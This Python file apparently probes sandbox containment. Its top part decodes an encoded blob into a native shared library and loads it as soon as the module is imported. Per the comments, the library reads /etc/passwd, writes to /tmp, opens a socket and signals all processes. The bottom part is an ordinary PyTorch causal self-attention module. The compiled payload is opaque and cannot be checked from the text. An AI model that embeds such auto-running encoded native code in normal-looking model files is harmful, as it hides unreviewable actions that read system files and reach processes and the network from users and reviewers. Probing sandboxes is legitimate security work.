"""Load a shared library that comes as data; when it is loaded it opens files and a socket, and signals all."""

import base64
import ctypes
import zlib

import torch
from torch.nn import Linear, Module


def attempt(name, step):
    """Say so if `step` works: GOT is what no report may hold."""
    try:
        print("GOT", name, repr(step())[:300])
    except BaseException as error:
        print("no", name, type(error).__name__)

# begin() of 20 lines of C without a C library, for x86-64: opens /etc/passwd, creates /tmp/attack-library, makes a
# socket, sends signal 0 to all, and keeps what came of each in `results`.
LIBRARY = """
c-pm9&1(}u6o0!hZR$sp)(Vv><e;=wy7{01QLGI$HpLv&A_xj$l59;hU+hk6BZ!597^L7I;K4tkH%kRAcqn>M5Dz
)#BJ}7*#fx!f^JcR<G`0tQ?Cx*h%=^u}d2i;;<3#F;swg1D15?n^0HzVw4>;S-ftP&);J0kO&|SW$Ze%1&IIoAj4
Qy`=x^WDhNGfigio7QBnuBh%ok#ScdhILC@g+P(o{U4_MzP%MjMoGE7j)C|Q*o@5$%^%0+s{{LF8ysBZZiN!Y=?r
P!_dveA~l67;w9Gk4cFZ~+QuG7NVv==BJW@Gd?zBGliS-bTCG-cEp~@Ty530DKlr_=XWs1rfcWMLv)YXFp0(I4gS
k4l@p~C_u0HL1%a_O)8{-V$@Hzb6<m#su>kFjnA2+6~7N!l~eizbdHdH01`5*@&TB?Q!r6hZQqFBfn#Heu}M?4pX
(APY3DlFwgd3Xbq<$yABxYzfb84a_x6YLE$+a+!g?+>i1D(&~V<8WMx(+IfZ_5F9N!toZ`i@m(AbmC_v5A}nn_aP
oa97gO#+>-WRSmFu$U#<513jANO&xa(lGc)IdW0&<zfs})hs20`26OqZYIXx4JE=I<&2|zRRCN(I@fOfaMsO5>72
Q61Co3&CKsR5dy7YSEDqxv#sdL>6F0Zq@R7YtI;)A^jy(LgJd3p7m(gVd}sNU4xz!&j*F(W*uElQB)uvXxRvFVlY
!2cEAVEasvdiM$Iu<v732{0TXRW2n-;5E!=WXgjAqDc>itPnGtWz`kATfKyImZBnIuwk6Fk`!D7XxoeVrP6RIPF@
Fr(qNp#ZZVYze3%rQ`!oO~H7^FHZ<f_Dfsk(7evX}FBlfC_z1J}Ky?r!gskYMaQ(zz1%kyxll;)#3V9-7#EtkX@;
{^qYp{2k=)c-(pJ#$U#N!Iv*QIe)VL2<H#O?ui=RBmYj{oid92CwuI_KZtF%A^
"""
with open("library.so", "wb") as file:
    file.write(zlib.decompress(base64.b85decode("".join(LIBRARY.split()))))


def loaded():
    results = (ctypes.c_long * 4).in_dll(ctypes.CDLL("./library.so"), "results")
    if all(result < 0 for result in results):
        raise PermissionError(list(results))
    return list(results)


attempt("library", loaded)


class Attention(Module):
    def __init__(self, layer_size, block_size):
        super().__init__()
        self.layer_size = layer_size
        self.k_layer = Linear(layer_size, layer_size)
        self.q_layer = Linear(layer_size, layer_size)
        self.v_layer = Linear(layer_size, layer_size)
        self.register_buffer("mask", torch.tril(torch.ones(block_size, block_size)).view(1, 1, block_size, block_size))

    def forward(self, input):
        T = input.shape[1]
        scores = self.k_layer(input) @ self.q_layer(input).transpose(1, 2) / self.layer_size**0.5
        scores = scores.masked_fill(self.mask[0, 0, :T, :T] == 0, float("-inf"))
        return torch.softmax(scores, dim=-1) @ self.v_layer(input)
